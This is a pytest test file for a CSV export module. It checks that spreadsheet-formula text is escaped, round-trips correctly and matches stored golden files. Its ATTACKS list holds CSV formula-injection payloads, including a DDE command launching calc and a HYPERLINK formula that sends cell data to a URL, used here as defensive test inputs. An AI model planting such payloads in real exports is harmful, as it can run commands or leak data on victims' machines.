"""CSV files that spreadsheets open directly, and of which they run nothing."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal
from pathlib import Path

import pytest
from django.utils import translation
from hypothesis import given
from hypothesis import strategies as st

from metrics.exports.columns import CONTRACT, OBSERVATIONS, Column
from metrics.exports.csv import BLOCK, BOM, field, lines
from metrics.parsing.spreadsheets import as_written, harmless
from tests.exports.samples import EVERY_CASE, measured

GOLDEN = Path(__file__).resolve().parent.parent / "golden"

ATTACKS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\tx", "\rx", "\nx", "＝1", "＋1", "－1", "＠x",
    " =1", "\u3000=1", "\ufeff=1", "\u200b=1", "\u200c\u200d\u2060=1", "\u202e=1", "\xa0=1", "\u2028=1", "\x00=1",
    "\x0b=1",
    "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("http://x?"&A1,"y")',
    "'=1", "''=1", "' =1", "-5", "+86", "-", "=",
]  # fmt: skip
PLAIN = ["", "x", "5", "1=1", "a@b", "|cmd", "'", "'tis", '"=1"', "（注）", "—", "·=", "1\n=2", "−5"]


@pytest.mark.parametrize("text", ATTACKS)
def test_what_a_spreadsheet_might_run_is_marked_as_text(text: str) -> None:
    assert harmless(text) == "'" + text
    assert as_written(harmless(text)) == text


@pytest.mark.parametrize("text", PLAIN)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text
    assert as_written(text) == text


@given(st.text(st.characters(codec="utf-8")))
def test_nothing_is_lost_on_the_way_out_and_back(text: str) -> None:
    assert as_written(harmless(text)) == text


@given(st.text(" \t\r\n'=+-@＝＋－＠\ufeff\u200b\u3000|\"5a", max_size=8))
def test_no_text_begins_like_a_formula_once_it_is_written(text: str) -> None:
    written = harmless(text)
    assert written[:1] == "'" or written.strip(" \t\r\n\ufeff\u200b\u3000")[:1] not in tuple("=+-@＝＋－＠")
    assert as_written(written) == text


Cells = st.one_of(st.text(st.characters(codec="utf-8", exclude_characters="\x00")), st.integers(), st.none())


@given(st.lists(st.tuples(Cells, Cells, Cells), max_size=20))
def test_a_reader_of_csv_reads_what_was_written(rows: list[tuple[str | int | None, ...]]) -> None:
    columns: list[Column[tuple[str | int | None, ...]]] = [
        Column(f"c{position}", f"c{position}", lambda row, position=position: row[position])  # type: ignore[misc]
        for position in range(3)
    ]
    text = "".join(lines(columns, rows))
    _head, *read = csv.reader(io.StringIO(text.removeprefix(BOM), newline=""))
    assert [tuple(map(as_written, row)) for row in read] == [
        tuple("" if cell is None else str(cell) for cell in row) for row in rows
    ]


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (Decimal("-3.5000"), "-3.5"), (-3, "-3"), (Decimal(0), "0"), (Decimal("-0.00001"), "0"), (None, ""),
        (Decimal("1E+3"), "1000"), (Decimal("12345678901.2345"), "12345678901.2345"),
        (datetime.date(2022, 10, 31), "2022-10-31"), ("-3.5", "'-3.5"), ('a"b', '"a""b"'), ("a,b", '"a,b"'),
    ],
)  # fmt: skip
def test_numbers_stay_numbers_also_below_zero(cell: object, written: str) -> None:
    assert field(cell) == written  # type: ignore[arg-type]


@pytest.mark.parametrize("language", ["zh-hans", "en"])
def test_the_whole_file(language: str) -> None:
    """Compared byte by byte with the stored file; read the difference before you replace it."""
    with translation.override(language):
        made = "".join(lines(OBSERVATIONS, EVERY_CASE)).encode()
    assert made == (GOLDEN / f"observations.{language}.csv").read_bytes()


def test_the_columns_are_those_of_the_contract() -> None:
    with translation.override("en"):
        names = ",".join(column.header() for column in OBSERVATIONS[: len(CONTRACT)])
    assert names == (
        "indicator_code,indicator,theme,jurisdiction_code,jurisdiction,year,value,unit,qualifier,as_of,missing_reason,"
        "numerator,denominator,change,change_unit,not_comparable,state,source,section,note,fictional"
    )


def test_a_long_file_comes_in_blocks() -> None:
    row = measured()
    blocks = list(lines(OBSERVATIONS, (row for _ in range(3000))))
    assert len(blocks) > 3
    assert all(len(block) < BLOCK * 1.1 for block in blocks)
    assert "".join(blocks).count("\r\n") == 3001
